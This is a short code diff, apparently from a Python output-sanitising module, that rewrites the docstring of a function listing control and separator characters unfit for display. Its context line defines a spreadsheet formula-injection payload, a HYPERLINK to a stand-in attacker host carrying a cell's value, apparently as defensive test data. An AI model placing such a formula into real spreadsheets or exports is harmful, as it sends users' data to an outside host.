@@ -19,7 +19,10 @@ FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
 def unfit(text: str) -> set[str]:
-    """Return the characters of a text that no screen may get; a line feed ends a line and is fit."""
+    """Return a text's characters that no screen may get.
+
+    A line feed ends a line, so a screen may get it.
+    """
     return {c for c in text if c != "\n" and unicodedata.category(c)[0] in "CZ" and unicodedata.category(c) != "Zs"}
 
 
